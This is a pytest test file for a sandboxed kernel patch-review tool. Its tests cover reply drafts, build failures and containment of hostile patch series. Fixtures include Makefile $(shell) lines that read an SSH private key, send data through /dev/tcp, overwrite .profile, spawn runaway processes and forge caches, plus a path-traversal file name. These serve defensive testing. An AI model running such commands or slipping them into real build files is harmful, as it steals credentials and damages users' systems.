# SPDX-License-Identifier: GPL-2.0-only
"""Tests of `iommuq mail review` as a process, on the toy kernel: good, bad and hostile series."""

from __future__ import annotations

import contextlib
import email
import email.policy
import json
import os
import shutil
import signal
import socket
import sys
from email.message import EmailMessage
from pathlib import Path

import pytest

from iommuq.mail.review import review as reviews
from iommuq.system.errors import InfraError, UserError, VerdictError
from seriesmaker import BASE, GOOD, Series, at_baseline, reviewing_project
from toykernel import IOMMU_C, Done, Project, wait_for

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")

#: Seconds for a whole review: a dozen interpreters start, on a machine that is busy.
LONG = 540
SIGNED = "Because.\n\nSigned-off-by: Ada Toy <ada@example.com>"


@pytest.fixture
def project(tmp_path: Path) -> Project:
    """Return a project with the toy kernel."""
    return reviewing_project(tmp_path / "project")


@pytest.fixture
def series(project: Project) -> Series:
    """Return a series on the baseline, without a mail yet."""
    return Series(at_baseline(project))


def run(project: Project, mbox: Path, *words: str) -> Done:
    """Review what is in a file."""
    words = ("mail", "review", str(mbox), "--base", BASE, "--at", "baseline", "--offline", *words)
    process = project.start(*words)
    out, err = process.communicate(timeout=LONG)
    assert "Traceback" not in err, err
    return Done(process.returncode, out, err)


def drafts(project: Project) -> dict[str, EmailMessage]:
    """Return the drafts by the name of their file, read as a mail program does."""
    found = {}
    for path in sorted(project.root.glob("review-*/*")):
        found[path.name] = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        for line in found[path.name].get_content().splitlines():
            assert len(line) <= 75 or line.startswith((">", "  | ")), line
    return found


def of_project(project: Project) -> list[str]:
    """Return the command lines of all processes that speak of a project."""
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            words = (entry / "cmdline").read_bytes()
            if str(project.root).encode() in words and entry.name != str(os.getpid()):
                found.append(words.replace(b"\0", b" ").decode(errors="replace"))
    return found


def left_behind(project: Project) -> list[Path]:
    """Return what a review may have left in the caches of everything else, or of its own."""
    cache, state = project.root / "cache", project.root / "state"
    names = [*cache.glob("images/*"), *cache.glob("trees/*"), *state.glob("results*")]
    return [*names, *cache.glob("reviews/*/work"), *cache.glob("reviews/*/mails")]


def test_good_series(project: Project, series: Series) -> None:
    series.cover(2)
    series.patch(1, 2, GOOD, subject="iommu: Refuse to block", body=SIGNED)
    edit = {IOMMU_C: ("return 3;", "return 5;")}
    series.patch(2, 2, edit, subject="iommu: Drop the check", body=SIGNED)
    done = run(project, series.write(project.root / "x.mbox"))
    assert done.code == 0, done
    assert "1/2 fixes 1, breaks 0 of kunit" in done.out
    [(name, draft)] = drafts(project).items()
    assert name == "0000-reply.eml"
    assert draft["Subject"] == "Re: [PATCH 0/2] toy: Mend it"
    assert draft["In-Reply-To"] == "<cover@example.com>"
    assert draft["References"] == "<cover@example.com>"
    assert draft["From"] == "Toy Committer <committer@example.com>"
    assert draft["To"] == "Ada Toy <ada@example.com>"
    assert "iommu@lists.example.com" in draft["Cc"]
    assert draft["Message-ID"] is None
    lines = draft.get_content().splitlines()
    assert "> What it is for." in lines
    assert "    block_refused   FAIL   pass   pass" in lines
    assert "1/2 fixes 1 test. 2/2 changes no result." in lines
    assert "# Tested-by: Toy Committer <committer@example.com>" in lines
    # As a line for the person alone: no program takes it for a trailer.
    assert not any(line.startswith("Tested-by") for line in lines)
    text = " ".join(lines)
    assert "1 fails (toy_owner.late_device)" in text
    assert "without a new warning" in text
    assert left_behind(project) == []
    assert of_project(project) == []
    assert any((project.root / "cache/reviews").glob("*/logs/*build*"))


def test_series_that_breaks_things(project: Project, series: Series) -> None:
    """One patch breaks a test, one does not build, one warns and is not signed off."""
    series.cover(3)
    breaks = {IOMMU_C: ("return 2;", "return 7;")}
    series.patch(1, 3, breaks, subject="iommu: Break it", body=SIGNED)
    syntax = {IOMMU_C: ("return 7;", "return 7 + nothing;")}
    series.patch(2, 3, syntax, subject="iommu: Break the build", body=SIGNED)
    warns = {IOMMU_C: ("return 7 + nothing;", "int unused;\n\n\treturn 7;")}
    series.patch(3, 3, warns, subject="iommu: Warn", body="Because.")
    done = run(project, series.write(project.root / "x.mbox"))
    assert done.code == 1, done
    found = drafts(project)
    assert list(found) == ["0000-reply.eml", "0001-reply.eml", "0002-reply.eml", "0003-reply.eml"]
    head = found["0000-reply.eml"].get_content()
    assert "Tested-by" not in head
    assert "See my replies to 1/3, 2/3, 3/3." in " ".join(head.split())
    first = found["0001-reply.eml"].get_content()
    assert "A test fails with this patch and passed before it:" in first
    assert "toy_domain.plain_kept" in first
    assert "toy_plain() == 7" in first
    second = found["0002-reply.eml"]
    assert second["In-Reply-To"] == "<patch2@example.com>"
    text = second.get_content()
    # The very line, quoted, and what the compiler says of it below.
    assert "> +\treturn 7 + nothing;" in text
    assert text.index("nothing;") < text.index("does not build:")
    third = " ".join(found["0003-reply.eml"].get_content().split())
    assert "New warning:" in third
    assert "unused" in third
    assert "Your Signed-off-by is missing." in third


def test_patch_that_does_not_apply(project: Project, series: Series) -> None:
    series.maker.mail("x", {IOMMU_C: ("return 2;", "return 20;")})
    edit = {IOMMU_C: ("return 20;", "return 21;")}
    series.patch(1, 1, edit, subject="iommu: Count", body=SIGNED)
    done = run(project, series.write(project.root / "x.mbox"))
    assert done.code == 1, done
    assert "1/1 does not apply: drivers/iommu/iommu.c" in done.out
    [draft] = drafts(project).values()
    text = " ".join(draft.get_content().split())
    assert "Patch 1/1 does not apply: | drivers/iommu/iommu.c, hunk 1" in text
    assert "Tested-by" not in text
    assert str(project.root) not in text


def test_base_commit(project: Project, series: Series) -> None:
    """One that nobody has is told; the id of one of our steps is found."""
    edit = {IOMMU_C: ("return 2;", "return 2 + 0;")}
    made = series.patch(1, 1, edit, subject="iommu: Count", body=SIGNED)
    lost = made.get_content() + "\nbase-commit: " + "1" * 40 + "\n"
    made.set_content(lost, charset="utf-8", cte="8bit")
    done = run(project, series.write(project.root / "x.mbox"), "--checks", "none")
    assert done.code == 0, done
    assert "its base-commit 111111111111 is not available" in done.out
    [draft] = drafts(project).values()
    assert "base-commit 111111111111 is not" in draft.get_content()


HOSTILE = """\
$(shell (echo evil > {victim}; cat {home}/id_ed25519) 2>/dev/null)
$(shell (bash -c 'echo secret > /dev/tcp/127.0.0.1/{port}') 2>/dev/null)
$(shell mkdir -p $(O)/.iommuq; cd $(O)/.iommuq && for each in count warnings.json \
configured.json; do rm -f $$each; ln -s {victim} $$each; done)
$(shell cd $(O) && ln -sf {home}/id_ed25519 stolen; cp {home}/id_ed25519 . 2>/dev/null)
$(shell setsid sleep 600 >/dev/null 2>&1 &)
$(shell sh -c 'while :; do sleep 600 & done' >/dev/null 2>&1)
"""


def test_hostile_series(project: Project, series: Series, tmp_path: Path) -> None:
    """A Makefile that does all at once what it should not be able to do."""
    home = tmp_path / "home"
    home.mkdir()
    (home / "id_ed25519").write_text("the-private-key")
    victim = home / ".profile"
    victim.write_text("whole\n")
    project.extra["HOME"] = str(home)
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        evil = HOSTILE.format(victim=victim, home=home, port=server.getsockname()[1])
        edit: dict[str, tuple[str, str] | str | None] = {
            "Makefile": ("VERSION = 6\n", f"VERSION = 6\n{evil}")
        }
        series.patch(1, 1, edit, subject="iommu: Evil", body=SIGNED)
        done = run(project, series.write(project.root / "x.mbox"), "--checks", "none")
        with pytest.raises(BlockingIOError):
            server.accept()
    # It may well build in the end: what counts is that nothing came of the rest.
    assert done.code in (0, 1, 3), done
    assert "1 patch" in done.out or done.code == 3, done
    assert victim.read_text() == "whole\n"
    assert sorted(path.name for path in home.iterdir()) in (
        [".profile", "id_ed25519"],
        [".cache", ".profile", "id_ed25519"],
        [".local", ".profile", "id_ed25519"],
    )
    texts = [done.out, done.err]
    texts += [path.read_text() for path in project.root.glob("review-*/*")]
    texts += [path.read_text() for path in project.root.glob("cache/reviews/*/logs/*")]
    assert not any("the-private-key" in text for text in texts)
    assert of_project(project) == []
    assert left_behind(project) == []


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGKILL])
def test_nothing_outlives_the_tool(
    project: Project, series: Series, number: signal.Signals
) -> None:
    stuck = "VERSION = 6\n$(shell sleep 600)\n"
    edit: dict[str, tuple[str, str] | str | None] = {"Makefile": ("VERSION = 6\n", stuck)}
    series.patch(1, 1, edit, subject="iommu: Wait", body=SIGNED)
    mbox = series.write(project.root / "x.mbox")
    words = ("mail", "review", str(mbox), "--base", BASE, "--at", "baseline", "--offline")
    process = project.start(*words, "--checks", "none")

    def building() -> bool:
        logs = project.root.glob("cache/reviews/*/work/state/logs/*build*review*")
        late = [*project.root.glob("cache/reviews/*/work/state/logs/*build*0001*"), *logs]
        return bool(late) or process.poll() is not None

    wait_for(building, LONG)
    assert process.poll() is None, process.communicate()
    process.send_signal(number)
    process.communicate(timeout=LONG)
    wait_for(lambda: not of_project(project), LONG)
    assert process.returncode == (130 if number is signal.SIGINT else -signal.SIGKILL)
    assert list(project.root.glob("review-*")) == []
    if number is signal.SIGINT:
        assert left_behind(project) == []
        return
    # What is left of it goes when the next one begins.
    mbox.write_text("")
    assert run(project, mbox).code == 2
    assert left_behind(project) == []


def test_refused_before_anything_is_written(project: Project, series: Series) -> None:
    made = series.patch(1, 1, GOOD, subject="iommu: Evil", body=SIGNED)
    text = made.get_content().replace("b/drivers/iommu/iommu.c", "b/../../evil.c")
    made.set_content(text, charset="utf-8", cte="8bit")
    done = run(project, series.write(project.root / "x.mbox"))
    assert done.code == 2
    assert "1/1: b/../../evil.c is outside of the tree" in done.err
    assert list(project.root.rglob("evil.c")) == []
    assert list(project.root.glob("review-*")) == []
    assert left_behind(project) == []


def shim(project: Project, text: str) -> None:
    folder = project.root / "bin"
    folder.mkdir()
    (folder / "bwrap").write_text(text)
    (folder / "bwrap").chmod(0o755)
    project.extra["PATH"] = f"{folder}:{os.environ['PATH']}"


def test_without_a_working_sandbox(project: Project, series: Series) -> None:
    """It refuses, before it looks at anything; with --trust it works, and says so."""
    shim(project, "#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
    mbox = project.root / "x.mbox"
    done = run(project, mbox)
    assert done.code == 3
    assert "no sandbox can be made here: bwrap: setting up uid map" in done.err
    assert "--trust" in done.err
    series.patch(1, 1, GOOD, subject="iommu: Refuse to block", body=SIGNED)
    series.write(mbox)
    project.extra["PATH"] = (
        f"{project.root / 'bin'}:{Path(sys.prefix) / 'bin'}:{os.environ['PATH']}"
    )
    done = run(project, mbox, "--trust", "--checks", "none")
    assert done.code == 0, done
    assert "without a sandbox" in done.out
    [draft] = drafts(project).values()
    assert "# Built and run without a sandbox." in draft.get_content()
    assert left_behind(project) == []


def test_patches_that_are_not_published(project: Project, series: Series) -> None:
    """Of the reviewer's patches a series sees those that it is applied to."""
    queue = project.root / "patches"
    kept = queue / BASE / "kept" / "0001-not-sent-yet.patch"
    kept.parent.mkdir()
    kept.write_text("the unpublished fix\n")
    tell = f"$(warning $(shell find {queue}; grep -rs unpublished {queue} .))"
    edit: dict[str, tuple[str, str] | str | None] = {
        "Makefile": ("VERSION = 6\n", f"VERSION = 6\n{tell}\n")
    }
    series.patch(1, 1, edit, subject="iommu: Look around", body=SIGNED)
    done = run(project, series.write(project.root / "x.mbox"), "--checks", "none")
    logs = project.root.glob("cache/reviews/*/logs/*")
    texts = [done.out, done.err, *(path.read_text() for path in logs)]
    assert any("base.toml" in text for text in texts), done
    assert not any("the unpublished fix" in text or "not-sent-yet" in text for text in texts)


def test_a_trusted_series_shares_no_cache(project: Project, series: Series, hermetic: Path) -> None:
    """What compilers, ccache and Python keep for the next command is in a directory of its own."""
    places = {
        "HOME": "HOME/.ccache",
        "TMPDIR": "TMPDIR",
        "CCACHE_DIR": "CCACHE_DIR",
        "XDG_CACHE_HOME": "XDG_CACHE_HOME/ccache",
        "XDG_STATE_HOME": "XDG_STATE_HOME/iommuq",
        "IOMMUQ_CACHE_DIR": "IOMMUQ_CACHE_DIR/images",
        "IOMMUQ_STATE_DIR": "IOMMUQ_STATE_DIR",
    }
    for name in ("TMPDIR", "CCACHE_DIR"):
        project.extra[name] = str(hermetic / name)
        (hermetic / name).mkdir()
    keep = "; ".join(f"mkdir -p $${place}; touch $${place}/forged" for place in places.values())
    edit: dict[str, tuple[str, str] | str | None] = {
        **GOOD,
        "Makefile": ("VERSION = 6\n", f"VERSION = 6\n$(shell {keep}; touch {hermetic}/ran)\n"),
    }
    series.patch(1, 1, edit, subject="iommu: Refuse to block", body=SIGNED)
    mbox = series.write(project.root / "x.mbox")
    done = run(project, mbox, "--trust", "--checks", "none")
    assert done.code == 0, done
    assert (hermetic / "ran").exists()
    assert [*hermetic.rglob("forged"), *project.root.rglob("forged")] == []
    assert list((hermetic / "TMPDIR").iterdir()) == []


def test_drafts_are_never_written_over(project: Project, series: Series) -> None:
    series.patch(1, 1, GOOD, subject="iommu: Refuse to block", body=SIGNED)
    mbox = series.write(project.root / "x.mbox")
    output = project.root / "out"
    output.mkdir()
    (output / "0000-reply.eml").write_text("mine")
    done = run(project, mbox, "--output", str(output))
    assert done.code == 2
    assert "never overwritten" in done.err
    assert (output / "0000-reply.eml").read_text() == "mine"


@pytest.mark.parametrize("limit", ["0", "nan", "inf", "1e30"])
def test_limit_that_is_none(project: Project, limit: str) -> None:
    done = run(project, project.root / "x.mbox", "--limit", limit)
    assert done.code == 2
    assert "--limit" in done.err


def test_logs_that_are_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Files alone, and neither the bytes nor the number of them without end."""
    source = tmp_path / "logs"
    source.mkdir()
    (tmp_path / "secret").write_text("secret")
    (source / "link").symlink_to(tmp_path / "secret")
    os.mkfifo(source / "pipe")
    (source / "one").write_bytes(bytes(100))
    monkeypatch.setattr(reviews, "_MOST_LOG", 60)
    reviews._keep_logs(source, tmp_path / "few")
    assert [path.name for path in (tmp_path / "few").iterdir()] == ["one"]
    assert (tmp_path / "few" / "one").stat().st_size == 60
    for number in range(50):
        (source / f"{number}").touch()
    monkeypatch.setattr(reviews, "_MOST_LOGS", 10 * 4096)
    reviews._keep_logs(source, tmp_path / "many")
    assert len(list((tmp_path / "many").iterdir())) == 10


def answered(*labels: str) -> str:
    """Return an answer with results of these steps."""
    names = ("warnings", "passed", "failed", "skipped", "flaky", "unknown")
    empty: dict[str, object] = {key: [] for key in names}
    ran = {"lane": "kunit", "failure": None, **empty, "messages": {}, "accelerator": "native"}
    outcomes = [{"label": label, **ran} for label in labels]
    return json.dumps({"lanes": {}, "compiler": "", "outcomes": outcomes, "reports": []})


@pytest.mark.parametrize(
    ("lines", "kind", "what"),
    [
        ([], InfraError, "no answer from the sandbox"),
        (["rubbish"], InfraError, "no answer from the sandbox"),
        (['{"error": 5}'], InfraError, "no answer from the sandbox"),
        (['{"lanes": {}, "compiler": 5}'], InfraError, "no answer from the sandbox"),
        (['{"error": {"code": 1, "what": "a\\u001b[2Jb", "hint": "c\\nd"}}'], VerdictError, "a"),
        (['{"error": {"code": 2, "what": "x", "hint": ""}}'], UserError, "x"),
        (["[" * 100_000], InfraError, "no answer from the sandbox"),
        ([answered("0001")], InfraError, "no answer from the sandbox"),
        ([answered("baseline", "baseline")], InfraError, "no answer from the sandbox"),
    ],
)
def test_answer_of_somebody_else(lines: list[str], kind: type[Exception], what: str) -> None:
    """Code of the series may answer in the worker's place; nothing worse comes of it."""
    with pytest.raises(kind, match=what) as caught:
        reviews._read(lines, 1, "last\x1b]0;words\n", ["baseline"])
    assert "\x1b" not in str(caught.value)
    assert "\n" not in str(caught.value)


def test_answer_of_the_steps_that_were_asked_about() -> None:
    answer = reviews._read([answered("baseline", "0001")], 0, "", ["baseline", "0001"])
    assert [ran.label for ran in answer.outcomes] == ["baseline", "0001"]
